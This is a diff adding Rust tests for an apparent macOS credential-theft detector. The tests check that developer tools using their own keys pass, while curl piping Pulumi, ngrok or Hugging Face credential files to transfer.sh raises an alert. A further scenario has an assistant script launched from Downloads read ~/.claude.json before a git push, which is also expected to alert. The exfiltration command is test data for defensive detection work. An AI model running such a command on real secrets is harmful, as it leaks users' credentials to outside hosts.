@@ -2,6 +2,7 @@
 
 use super::world::*;
 
+const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
 const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
 const GIT: Program = apple("/usr/bin/git", "com.apple.git");
 const LOGIN: &str = "/Users/alice/Library/Keychains/login.keychain-db";
@@ -47,6 +48,48 @@ fn developers_publish() {
         9_000_000,
     )
     .none();
+}
+
+/// The same of what is in homes and of assistants; whoever else takes their keys is told.
+#[test]
+fn tools_with_keys_of_their_own() {
+    const NODE: Program = vendor("/Users/alice/.nvm/versions/node/v22.11.0/bin/node", "node", "HX7739G8FX");
+    const NGROK: Program = vendor("/opt/homebrew/Caskroom/ngrok/3.30.0/ngrok", "ngrok", "TEX8MHRDQ9");
+    let pulumi = adhoc("/opt/homebrew/Cellar/pulumi/3.150.0/bin/pulumi", "pulumi");
+    let python = adhoc("/opt/homebrew/Cellar/python@3.13/3.13.1/bin/python3.13", "python3");
+    let hf = "/Users/alice/.local/bin/hf";
+    for (program, args, key, host) in [
+        (pulumi, &["pulumi", "up"][..], ".pulumi/credentials.json", "corp-state.s3.amazonaws.com"),
+        (
+            NGROK,
+            &["ngrok", "http", "80"],
+            "Library/Application Support/ngrok/ngrok.yml",
+            "connect.ngrok-agent.com",
+        ),
+        (
+            python,
+            &["python3.13", hf, "upload", "me/model", "w"],
+            ".cache/huggingface/token",
+            "huggingface.co",
+        ),
+    ] {
+        let key = format!("/Users/alice/{key}");
+        works(program, args, &[&key], host, 400_000).none();
+        let curl = ["curl", "-T", "-", "https://transfer.sh/"];
+        works(CURL, &curl, &[&key], "transfer.sh", 6_000).alert();
+    }
+    // An assistant looks at its key and then has git push for it.
+    let cli = "/Users/alice/.nvm/versions/node/v22.11.0/lib/node_modules/@anthropic-ai/claude-code/cli.js";
+    for (script, own) in [(cli, true), ("/Users/alice/Downloads/cli.js", false)] {
+        let mut w = World::new();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let assistant = w.spawn(1.0, &shell, NODE, &["node", script]);
+        w.open(1.1, &assistant, "/Users/alice/.claude.json");
+        let sub = w.spawn(2.0, &assistant, ZSH, &["zsh", "-c", "git push"]);
+        let git = w.spawn(2.1, &sub, GIT, &["git", "push"]);
+        w.upload(3.0, &git, "github.com", 30_000);
+        assert_eq!(w.tell().alerts().is_empty(), own, "{script}");
+    }
 }
 
 /// `git push` by https: a helper asks the keychain, git sends.
